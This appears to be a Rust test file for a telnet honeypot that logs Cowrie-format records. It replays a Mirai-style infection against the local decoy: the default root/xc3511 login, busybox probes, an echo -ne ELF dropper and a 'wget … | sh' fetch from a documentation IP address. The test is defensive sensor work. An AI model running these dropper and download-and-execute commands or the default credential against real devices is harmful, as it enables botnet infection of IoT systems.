//! A scripted Mirai-style infection over real TCP: the scanner's negotiation and default
//! password, its `enable`/`system`/`shell`/`sh` and `ECCHI` probe, the loader's mounts read,
//! `echo -ne` dropper and `wget … | sh` line. The records are checked field by field.

use sha2::{Digest, Sha256};
use yamori_decoy::Limits;

use crate::support::{eventids, of_session, Bot, Running};

const PROBE: &str = "ECCHI: applet not found";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirai_session_yields_cowrie_records() {
    let mut decoy = Running::start(Limits::default()).await;
    let mut bot = Bot::connect(decoy.addr).await;
    let local = bot.s.local_addr().expect("client address");

    // The scanner: the first byte must be IAC (consume_iacs), then the login prompts.
    let login = bot.until("login: ").await;
    assert!(
        login.ends_with("\r\nLocalHost login: ") && !login.contains("\r\r"),
        "{login:?}"
    );
    bot.line("root").await;
    bot.until("Password: ").await;
    bot.line("xc3511").await;
    bot.until("# ").await;
    assert_eq!(
        bot.first.first(),
        Some(&0xff),
        "Mirai waits for IAC as the first byte"
    );
    assert_eq!(&bot.first[..9], yamori_decoy::telnet::GREETING);
    for cmd in ["enable", "system", "shell", "sh"] {
        bot.line(cmd).await;
        bot.until("# ").await;
    }
    bot.line("/bin/busybox ECCHI").await;
    bot.until(PROBE).await;

    // The loader.
    bot.line("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
        .await;
    let mounts = bot.until(PROBE).await;
    assert!(mounts.contains("tmpfs /tmp tmpfs rw"), "{mounts:?}");
    let chunks = ["\\x7f\\x45\\x4c\\x46\\x01\\x01", "\\x01\\x00\\xff\\x0a"];
    bot.line(&format!(
        "cd /tmp; echo -ne '{}' > .d; /bin/busybox ECCHI",
        chunks[0]
    ))
    .await;
    bot.until(PROBE).await;
    bot.line(&format!(
        "echo -ne '{}' >> .d && /bin/busybox chmod 777 .d && ./.d; /bin/busybox ECCHI",
        chunks[1]
    ))
    .await;
    let exec = bot.until(PROBE).await;
    assert!(exec.contains("Illegal instruction"), "{exec:?}");
    bot.line("wget http://198.51.100.7/x.sh -O- | sh; /bin/busybox ECCHI")
        .await;
    let wget = bot.until(PROBE).await;
    assert!(
        wget.contains("can't connect to remote host (198.51.100.7)"),
        "{wget:?}"
    );
    bot.line("exit").await;
    assert!(bot.closed().await, "exit closes the session");

    let summary = decoy.stop().await;
    assert_eq!(
        (
            summary.sessions,
            summary.logins_succeeded,
            summary.download_urls
        ),
        (1, 1, 1)
    );
    assert_eq!((summary.files_written, summary.write_errors), (1, 0));

    let records = decoy.records();
    let id = records[0]["session"]
        .as_str()
        .expect("session id")
        .to_string();
    assert_eq!(id.len(), 12);
    assert!(id
        .bytes()
        .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
    let mine = of_session(&records, &id);
    assert_eq!(
        mine.len(),
        records.len(),
        "one session, every record has its id"
    );
    let inputs = [
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox ECCHI",
        "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
    ];
    let mut want: Vec<&str> = vec!["cowrie.session.connect", "cowrie.login.success"];
    // enable … wget: nine lines; the wget line's URL; exit; the dropped file; the end.
    want.extend(["cowrie.command.input"; 9]);
    want.extend([
        "cowrie.session.file_download",
        "cowrie.command.input",
        "cowrie.session.file_download",
        "cowrie.session.closed",
    ]);
    assert_eq!(eventids(&mine), want);

    for r in &mine {
        assert_eq!(r["src_ip"], "127.0.0.1");
        assert_eq!(r["src_port"], local.port());
        assert_eq!(r["dst_ip"], "127.0.0.1");
        assert_eq!(r["dst_port"], decoy.addr.port());
        assert_eq!(r["protocol"], "telnet");
        assert_eq!(r["sensor"], "test-sensor");
        let ts = r["timestamp"].as_str().expect("timestamp");
        assert_eq!(ts.len(), 27, "{ts}");
        assert!(
            ts.ends_with('Z') && &ts[19..20] == "." && &ts[10..11] == "T",
            "{ts}"
        );
        assert!(r["message"].as_str().is_some_and(|m| !m.is_empty()));
    }
    assert_eq!(mine[1]["username"], "root");
    assert_eq!(mine[1]["password"], "xc3511");
    assert_eq!(mine[1]["message"], "login attempt [root/xc3511] succeeded");
    for (r, input) in mine[2..].iter().zip(inputs) {
        assert_eq!(r["input"], input);
    }
    let wget = &mine[mine.len() - 4];
    assert_eq!(wget["eventid"], "cowrie.session.file_download");
    assert_eq!(wget["url"], "http://198.51.100.7/x.sh");
    assert!(
        wget.get("shasum").is_none(),
        "nothing was fetched, so nothing hashed"
    );
    let dropped = &mine[mine.len() - 2];
    let bytes = [0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, 0xff, 0x0a];
    assert_eq!(dropped["destfile"], "/tmp/.d");
    assert_eq!(dropped["shasum"], hex::encode(Sha256::digest(bytes)));
    assert_eq!(dropped["size"], bytes.len());
    let closed = mine[mine.len() - 1];
    assert!(
        closed["duration_ms"].is_u64(),
        "duration_ms is an integer: {closed}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_logins_are_recorded_and_the_third_hangs_up() {
    let mut decoy = Running::start(Limits::default()).await;
    let mut bot = Bot::connect(decoy.addr).await;
    for pass in ["a", "b", "c"] {
        bot.until("login: ").await;
        bot.line("admin").await;
        bot.until("Password: ").await;
        bot.line(pass).await;
        bot.until("Login incorrect").await;
    }
    assert!(bot.closed().await);
    let summary = decoy.stop().await;
    assert_eq!(summary.logins_failed, 3);
    let records = decoy.records();
    let failed: Vec<_> = records
        .iter()
        .filter(|r| r["eventid"] == "cowrie.login.failed")
        .collect();
    assert_eq!(failed.len(), 3);
    assert_eq!(failed[2]["username"], "admin");
    assert_eq!(failed[2]["password"], "c");
    assert_eq!(
        records.last().map(|r| r["eventid"].clone()),
        Some("cowrie.session.closed".into())
    );
}
